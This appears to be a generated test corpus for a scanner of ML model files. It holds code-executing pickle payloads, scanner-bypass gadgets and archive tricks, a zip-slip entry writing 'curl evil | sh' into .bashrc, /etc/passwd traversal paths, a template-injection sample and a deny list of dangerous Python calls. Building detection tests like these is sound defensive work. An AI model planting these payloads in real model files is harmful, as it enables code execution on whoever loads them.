import { gzipSync } from 'node:zlib';
import type { Verdict } from '../types.ts';
import { dumps, Ops, py, type Py } from './pickle-writer.ts';
import { benignTorchZip, float32, joblibDump, npy, numpyArray, sklearnModel, stateDict, torchLegacy, torchZip, zlibCompress } from './shapes.ts';
import { tar, zip } from './zip-writer.ts';
import { gguf, onnxModel, safetensors, savedModel } from './formats.ts';
import { codeBenignFixtures, codeMaliciousFixtures } from './code-fixtures.ts';

/**
 * The test corpus, generated: benign real-world shapes and malicious files of every kind, including the
 * bypass families from docs/research (renamed members, flipped ZIP flags, bad CRCs, stacked streams,
 * broken tails, nested archives, resolver chains). `rule` names a rule the scan must report.
 */
export interface Fixture {
  name: string;
  bytes: Uint8Array;
  expect: Verdict;
  rule?: string;
  global?: string;
  /** A member chain some finding must carry, e.g. `<unxz>!/model.pt`. */
  member?: string;
}

const call = (module: string, name: string, ...args: Py[]): Py => py.reduce(py.global(module, name), py.tuple(...args));
const osSystem = (p = 4): Uint8Array => dumps(call('os', 'system', 'echo pwned'), p);
const text = (s: string): Uint8Array => new TextEncoder().encode(s);

export function benignFixtures(): Fixture[] {
  const sd = stateDict([['layer.weight', [2, 2]]]);
  return [
    { name: 'plain dict p0', bytes: dumps(py.dict({ a: [1, 2, py.float(3.5)], b: 'x' }), 0), expect: 'clean' },
    ...[1, 2, 3, 4, 5].map((p) => ({ name: `plain dict p${p}`, bytes: dumps(py.dict({ a: [1, 2, py.float(3.5)], b: py.tuple(null, true), c: new Uint8Array([1, 2]) }), p), expect: 'clean' as const })),
    { name: 'torch state dict (zip)', bytes: benignTorchZip(), expect: 'clean' },
    { name: 'torch state dict, odd root folder', bytes: torchZip(dumps(sd, 2), [float32([1, 2, 3, 4])], { root: 'my_model' }), expect: 'clean' },
    { name: 'torch state dict, deflated members', bytes: torchZip(dumps(sd, 2), [float32([1, 2, 3, 4])], { mutate: (m) => ({ ...m, method: 'deflate' }) }), expect: 'clean' },
    { name: 'torch legacy state dict', bytes: torchLegacy(sd), expect: 'clean' },
    { name: 'scikit-learn model (pickle p5)', bytes: dumps(sklearnModel(), 5), expect: 'clean' },
    { name: 'scikit-learn model (pickle p2)', bytes: dumps(sklearnModel(), 2), expect: 'clean' },
    { name: 'numpy array pickle', bytes: dumps(numpyArray([1, 2, 3]), 4), expect: 'clean' },
    { name: 'joblib dump with arrays', bytes: joblibDump([[1, 2, 3], [4, 5, 6, 7, 8]], 'meta'), expect: 'clean' },
    { name: 'joblib dump, zlib compressed', bytes: zlibCompress(joblibDump([[1, 2, 3]])), expect: 'clean' },
    { name: 'joblib dump, gzip compressed', bytes: gzipSync(joblibDump([[1, 2, 3]])), expect: 'clean' },
    { name: 'npy float32', bytes: npy('<f4', [3], float32([1, 2, 3])), expect: 'clean' },
    { name: 'npz (stored)', bytes: zip([{ name: 'a.npy', data: npy('<f4', [2], float32([1, 2])) }, { name: 'b.npy', data: npy('<f4', [1], float32([3])) }]), expect: 'clean' },
    { name: 'npz (deflated)', bytes: zip([{ name: 'a.npy', data: npy('<f4', [2], float32([1, 2])), method: 'deflate' }]), expect: 'clean' },
    { name: 'README text', bytes: text('# My model\n\nconfig: weights in model.pt\n'), expect: 'clean' },
    { name: 'keras v3 zip with Dense layers', bytes: zip([{ name: 'metadata.json', data: text('{"keras_version":"3.3.3"}') }, { name: 'config.json', data: text(JSON.stringify({ module: 'keras', class_name: 'Sequential', config: { layers: [{ module: 'keras.layers', class_name: 'Dense', config: { units: 2 } }] } })) }]), expect: 'clean' },
    { name: 'tar of a torch zip', bytes: tar([{ name: 'model/pytorch_model.bin', data: benignTorchZip() }]), expect: 'clean' },
    { name: 'safetensors', bytes: safetensors([{ name: 'a', dtype: 'F32', shape: [2], begin: 0, end: 8 }, { name: 'b', dtype: 'F16', shape: [2, 2], begin: 8, end: 16 }], new Uint8Array(16), { format: 'pt' }), expect: 'clean' },
    { name: 'onnx standard ops', bytes: onnxModel([{ opType: 'Relu' }, { opType: 'FusedMatMul', domain: 'com.microsoft' }], { externalLocation: 'weights/model.onnx.data' }), expect: 'clean' },
    { name: 'tensorflow SavedModel', bytes: savedModel(['Placeholder', 'MatMul', 'RestoreV2', 'SaveV2']), expect: 'clean' },
    { name: 'gguf with a normal chat template', bytes: gguf([['general.architecture', 'llama'], ['general.alignment', 32], ['tokenizer.chat_template', "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}"]]), expect: 'clean' },
    ...codeBenignFixtures(),
  ];
}

export function maliciousFixtures(): Fixture[] {
  const payload = osSystem(2);
  const benign = dumps(py.dict({ ok: 1 }), 4);
  return [
    // Plain pickles, every protocol, every calling opcode.
    ...[0, 1, 2, 3, 4, 5].map((p) => ({ name: `os.system REDUCE p${p}`, bytes: osSystem(p), expect: 'dangerous' as const, rule: 'pickle/dangerous-call', global: 'os.system' })),
    { name: 'posix.system', bytes: dumps(call('posix', 'system', 'id'), 2), expect: 'dangerous', global: 'posix.system' },
    { name: 'nt.system', bytes: dumps(call('nt', 'system', 'id'), 2), expect: 'dangerous' },
    { name: '__builtin__.eval (p0 text)', bytes: text("c__builtin__\neval\n(S'__import__(\"os\").system(\"id\")'\ntR."), expect: 'dangerous', global: 'builtins.eval' },
    { name: 'builtins.exec STACK_GLOBAL', bytes: dumps(call('builtins', 'exec', 'import os; os.system("id")'), 4), expect: 'dangerous', global: 'builtins.exec' },
    { name: 'subprocess.Popen list', bytes: dumps(call('subprocess', 'Popen', ['sh', '-c', 'id']), 3), expect: 'dangerous' },
    { name: 'INST opcode', bytes: new Ops().mark().string0('id').inst('os', 'system').stop().bytes(), expect: 'dangerous', rule: 'pickle/dangerous-call' },
    { name: 'OBJ opcode', bytes: new Ops().proto(2).mark().global('os', 'system').shortBinstring('id').obj().stop().bytes(), expect: 'dangerous', rule: 'pickle/dangerous-call' },
    { name: 'NEWOBJ_EX', bytes: new Ops().proto(4).global('subprocess', 'Popen').str('id').tuple1().emptyDict().op(0x92).stop().bytes(), expect: 'dangerous' },
    { name: 'call result discarded with POP', bytes: new Ops().proto(2).global('os', 'system').str('id').tuple1().reduce().pop().none().stop().bytes(), expect: 'dangerous' },
    { name: 'memo-fed STACK_GLOBAL (picklescan #22)', bytes: new Ops().proto(4).str('os').binput(7).pop().str('system').binput(9).pop().binget(7).binget(9).stackGlobal().str('id').tuple1().reduce().stop().bytes(), expect: 'dangerous', global: 'os.system' },
    { name: 'dotted name pathlib/os.system', bytes: new Ops().proto(4).str('pathlib').str('os.system').stackGlobal().str('id').tuple1().reduce().stop().bytes(), expect: 'dangerous' },
    { name: 'SHORT_BINSTRING operands (GHSA-9gvj)', bytes: new Ops().proto(4).shortBinstring('os').shortBinstring('system').stackGlobal().str('id').tuple1().reduce().stop().bytes(), expect: 'dangerous', global: 'os.system' },
    { name: '_operator.attrgetter chain', bytes: dumps(py.reduce(call('_operator', 'attrgetter', 'system'), py.tuple(call('importlib', 'import_module', 'os'))), 4), expect: 'dangerous', rule: 'pickle/resolver-chain' },
    { name: 'getattr(__import__("os"), "system")("id")', bytes: dumps(py.reduce(call('builtins', 'getattr', call('builtins', '__import__', 'os'), 'system'), py.tuple('id')), 4), expect: 'dangerous', rule: 'pickle/resolver-chain', global: 'os.system' },
    { name: 'pkgutil.resolve_name("os:system")', bytes: dumps(py.reduce(call('pkgutil', 'resolve_name', 'os:system'), py.tuple('id')), 4), expect: 'dangerous', global: 'os.system' },
    { name: 'pydoc.locate + call', bytes: dumps(py.reduce(call('pydoc', 'locate', 'subprocess.getoutput'), py.tuple('id')), 2), expect: 'dangerous' },
    { name: 'methodcaller on import_module', bytes: dumps(py.reduce(call('operator', 'methodcaller', 'system', 'id'), py.tuple(call('importlib', 'import_module', 'os'))), 4), expect: 'dangerous', global: 'os.system' },
    { name: 'functools.partial(os.system)', bytes: dumps(py.reduce(call('functools', 'partial', py.global('os', 'system'), 'id'), py.tuple()), 4), expect: 'dangerous' },
    { name: 'nested pickle.loads', bytes: dumps(call('pickle', 'loads', payload), 4), expect: 'dangerous', rule: 'pickle/nested-pickle' },
    { name: 'nested base64 pickle', bytes: dumps(call('_pickle', 'loads', call('base64', 'b64decode', Buffer.from(payload).toString('base64'))), 4), expect: 'dangerous', global: 'os.system' },
    { name: 'nested hex pickle', bytes: dumps(call('pickle', 'loads', call('binascii', 'unhexlify', Buffer.from(payload).toString('hex'))), 4), expect: 'dangerous', global: 'os.system' },
    { name: 'torch _load_from_bytes with evil zip', bytes: dumps(call('torch.storage', '_load_from_bytes', torchZip(payload, [])), 2), expect: 'dangerous', global: 'os.system' },
    // Deny-list gaps from picklescan/fickling advisories.
    ...([['pip', 'main'], ['torch.utils.collect_env', 'run'], ['asyncio.unix_events', '_UnixSubprocessTransport._start'], ['numpy.f2py', 'compile'], ['webbrowser', 'open'], ['socket', 'create_connection'], ['runpy', '_run_code'], ['ctypes', 'CDLL'], ['pty', 'spawn'], ['uuid', '_get_command_stdout'], ['_io', 'FileIO'], ['builtins', 'open'], ['torch._inductor.codecache', 'compile_file'], ['idlelib.pyshell', 'ModifiedInterpreter.runcode'], ['cProfile', 'run'], ['timeit', 'timeit'], ['code', 'InteractiveInterpreter.runcode'], ['marshal', 'loads'], ['types', 'CodeType'], ['multiprocessing.util', 'spawnv_passfds'], ['ensurepip', '_run_pip'], ['shutil', 'rmtree'], ['numpy.testing._private.utils', 'runstring'], ['imaplib', 'IMAP4_stream'], ['sys', 'modules'], ['torch', 'load'], ['numpy', 'load']] as const)
      .map(([m, n]) => ({ name: `deny ${m}.${n}`, bytes: dumps(call(m, n, 'x'), 4), expect: 'dangerous' as const })),
    { name: 'dunder gadget numpy.__builtins__', bytes: new Ops().proto(4).str('numpy').str('__builtins__').stackGlobal().stop().bytes(), expect: 'dangerous' },
    // Stream-level evasions.
    { name: 'broken tail after payload (nullifAI)', bytes: Buffer.concat([payload.subarray(0, payload.length - 1), Buffer.from([0xff, 0x13, 0x37])]), expect: 'dangerous' },
    { name: 'truncated after REDUCE', bytes: payload.subarray(0, payload.length - 1), expect: 'dangerous' },
    { name: 'stacked: benign then evil', bytes: Buffer.concat([benign, osSystem(4)]), expect: 'dangerous', rule: 'pickle/dangerous-call' },
    { name: 'FRAME hides a call', bytes: new Ops().proto(4).frame(3).emptyDict().pop().global('os', 'system').str('id').tuple1().reduce().stop().bytes(), expect: 'dangerous' },
    { name: 'EXT1 extension code', bytes: new Ops().proto(2).op(0x82, [1]).str('id').tuple1().reduce().stop().bytes(), expect: 'suspicious', rule: 'pickle/extension-code' },
    { name: 'unknown class __main__.Net', bytes: dumps(py.reduce(py.global('__main__', 'Net'), py.tuple(), { newobj: true, state: py.dict({ w: 1 }) }), 4), expect: 'suspicious', rule: 'pickle/unknown-global' },
    { name: 'BUILD on a module-level object', bytes: new Ops().proto(2).global('collections', 'OrderedDict').emptyDict().build().stop().bytes(), expect: 'suspicious', rule: 'pickle/global-mutation' },
    // Containers.
    { name: 'torch zip with evil data.pkl', bytes: torchZip(payload, [float32([1])]), expect: 'dangerous' },
    { name: 'torch zip, pickle renamed to .bin', bytes: torchZip(dumps(stateDict([['w', [1]]]), 2), [float32([1])], { extra: [{ name: 'archive/extra/weights.bin', data: payload }] }), expect: 'dangerous' },
    { name: 'torch zip, flag 0x1 flipped', bytes: torchZip(payload, [], { mutate: (m) => ({ ...m, flags: 1 }) }), expect: 'dangerous', rule: 'archive/header-mismatch' },
    { name: 'torch zip, flag 0x20 local only', bytes: torchZip(payload, [], { mutate: (m) => ({ ...m, localFlags: 0x20 }) }), expect: 'dangerous', rule: 'archive/header-mismatch' },
    { name: 'torch zip, bad CRC', bytes: torchZip(payload, [], { mutate: (m) => ({ ...m, crc: 0xdeadbeef }) }), expect: 'dangerous', rule: 'archive/bad-crc' },
    { name: 'torch zip, local name differs', bytes: torchZip(payload, [], { mutate: (m) => (m.name.endsWith('data.pkl') ? { ...m, localName: 'archive/other.txt' } : m) }), expect: 'dangerous', rule: 'archive/header-mismatch' },
    { name: 'torch zip, deflated evil pickle', bytes: torchZip(payload, [], { mutate: (m) => ({ ...m, method: 'deflate' }) }), expect: 'dangerous' },
    { name: 'torch legacy with payload', bytes: torchLegacy(call('os', 'system', 'id')), expect: 'dangerous' },
    { name: 'zip-slip member', bytes: zip([{ name: '../../.bashrc', data: text('curl evil | sh') }]), expect: 'dangerous', rule: 'archive/path-traversal' },
    { name: 'symlink member', bytes: zip([{ name: 'model.bin', data: text('/etc/passwd'), symlink: true }]), expect: 'suspicious', rule: 'archive/symlink' },
    { name: 'gzip(tar(zip(evil)))', bytes: gzipSync(tar([{ name: 'model.pt', data: torchZip(payload, []) }])), expect: 'dangerous', global: 'os.system' },
    { name: 'npy object array', bytes: npy('|O', [1], payload), expect: 'dangerous' },
    { name: 'npz with object array', bytes: zip([{ name: 'x.npy', data: npy('|O', [1], payload) }]), expect: 'dangerous' },
    { name: 'joblib with evil object', bytes: joblibDump([[1, 2]], call('os', 'system', 'id')), expect: 'dangerous' },
    { name: 'joblib zlib evil', bytes: zlibCompress(payload), expect: 'dangerous' },
    { name: 'pickle + zip polyglot', bytes: Buffer.concat([benign, torchZip(payload, [])]), expect: 'dangerous', rule: 'format/polyglot' },
    { name: '7z signature with a zeroed header', bytes: Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(32)]), expect: 'inconclusive', rule: 'archive/malformed' },
    { name: 'keras Lambda layer', bytes: zip([{ name: 'config.json', data: text(JSON.stringify({ class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: { name: 'l', function: ['4wEAAAAAAAAA', null, null], function_type: 'lambda' } }] } })) }, { name: 'metadata.json', data: text('{}') }]), expect: 'dangerous', rule: 'keras/lambda-layer' },
    { name: 'safetensors overlapping tensors', bytes: safetensors([{ name: 'a', dtype: 'F32', shape: [2], begin: 0, end: 8 }, { name: 'b', dtype: 'F32', shape: [2], begin: 4, end: 12 }], new Uint8Array(12)), expect: 'suspicious', rule: 'safetensors/invalid-header' },
    { name: 'safetensors with a pickle in its tail', bytes: safetensors([{ name: 'a', dtype: 'F32', shape: [2], begin: 0, end: 8 }], Buffer.concat([Buffer.alloc(8), osSystem(2)])), expect: 'dangerous', rule: 'safetensors/hole' },
    { name: 'bad-header.safetensors', bytes: Buffer.concat([Buffer.from([0xff, 0xff, 0, 0, 0, 0, 0, 0]), Buffer.from('{"a":1}')]), expect: 'inconclusive', rule: 'format/unknown' },
    { name: 'safetensors shape/offset mismatch', bytes: safetensors([{ name: 'a', dtype: 'F64', shape: [2], begin: 0, end: 8 }], new Uint8Array(8)), expect: 'suspicious', rule: 'safetensors/invalid-header' },
    { name: 'onnx custom domain', bytes: onnxModel([{ opType: 'EvilOp', domain: 'com.attacker' }], { opsetDomain: 'com.attacker' }), expect: 'suspicious', rule: 'onnx/custom-domain' },
    { name: 'onnx external data traversal', bytes: onnxModel([{ opType: 'Relu' }], { externalLocation: '../../../../etc/passwd' }), expect: 'dangerous', rule: 'onnx/external-data-traversal' },
    { name: 'SavedModel with ReadFile', bytes: savedModel(['Placeholder', 'ReadFile', 'PyFunc']), expect: 'dangerous', rule: 'tensorflow/dangerous-op' },
    { name: 'gguf SSTI chat template', bytes: gguf([['tokenizer.chat_template', "{{ ''.__class__.__mro__[1].__subclasses__() }}"]]), expect: 'dangerous', rule: 'gguf/chat-template' },
    { name: 'gguf truncated', bytes: gguf([['tokenizer.chat_template', 'hello']]).subarray(0, 40), expect: 'inconclusive', rule: 'format/malformed' },
    { name: 'broken pickle without payload', bytes: Buffer.concat([dumps(py.dict({ a: 1 }), 2).subarray(0, 6)]), expect: 'inconclusive', rule: 'pickle/broken-stream' },
    ...codeMaliciousFixtures(),
  ];
}

export function corpus(): Fixture[] {
  return [...benignFixtures(), ...maliciousFixtures()];
}
